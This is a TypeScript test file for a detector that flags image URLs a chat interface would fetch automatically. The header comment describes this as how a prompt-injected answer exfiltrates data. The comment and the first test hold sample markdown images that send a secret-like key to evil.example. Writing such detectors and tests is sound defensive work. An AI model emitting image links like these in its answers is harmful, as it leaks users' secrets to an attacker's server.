/**
 * `url` with `images_only`: the URLs a chat UI fetches by itself when it
 * renders an answer (markdown images, inline or by reference, and HTML
 * `<img>`), which is how a prompt-injected answer exfiltrates data
 * (`![](https://evil.example/?d=<secret>)`). Links a person must click, bare
 * URLs and relative images are left alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { detect } from "../../src/detection/index.js"

const images = (raw: string, options: { allow?: Array<string> } = {}) =>
  detect("url", raw, { images_only: true, ...options }).map((finding) => ({
    category: finding.category,
    text: finding.spans.map((span) => raw.slice(span.start, span.end))
  }))

describe("url images_only", () => {
  it("reports a markdown image's URL, at its exact span", () => {
    const raw = "Here is your chart: ![chart](https://evil.example/log?d=sk-live-123) enjoy"
    expect(images(raw)).toEqual([{ category: "url", text: ["https://evil.example/log?d=sk-live-123"] }])
  })

  it("with an allow list reports only images from other domains", () => {
    const raw = "![logo](https://cdn.example.com/logo.png) ![x](<https://evil.example/p.png>)"
    expect(images(raw, { allow: ["example.com"] })).toEqual([
      { category: "unlisted_domain", text: ["https://evil.example/p.png"] }
    ])
  })

  it("reads reference-style images, HTML img (any case, src and srcset) and protocol-relative URLs", () => {
    const reference =
      "See ![status][s] and ![badge]\n\n[s]: https://one.example/s.svg\n  [badge]: https://two.example/b\n[docs]: https://three.example"
    expect(images(reference).flatMap((finding) => finding.text)).toEqual([
      "https://one.example/s.svg",
      "https://two.example/b"
    ])
    const html = `<p><IMG alt="a > b" SRC='https://four.example/a.png'><img srcset="//five.example/x.png 2x"></p>`
    expect(
      images(html)
        .flatMap((finding) => finding.text)
        .sort()
    ).toEqual(["//five.example/x.png", "https://four.example/a.png"])
  })

  it("leaves links, bare URLs, relative images and data URIs alone", () => {
    const raw =
      "Read [the docs](https://evil.example/docs) or https://evil.example/x. ![local](images/a.png) ![inline](data:image/png;base64,AAAA)"
    expect(images(raw)).toEqual([])
  })

  it("finishes on hostile 64 KiB inputs", () => {
    const size = 64 * 1024
    for (const raw of [
      "![".repeat(size / 2),
      "![a][".repeat(size / 5),
      `${"![".repeat(size / 4)}]`,
      "<img".repeat(size / 4),
      `${"<img ".repeat(size / 5)}>`,
      "[a]:\n".repeat(size / 5) + "![a]",
      "![a](".repeat(size / 5)
    ]) {
      expect(Array.isArray(detect("url", raw, { images_only: true }))).toBe(true)
    }
  })
})
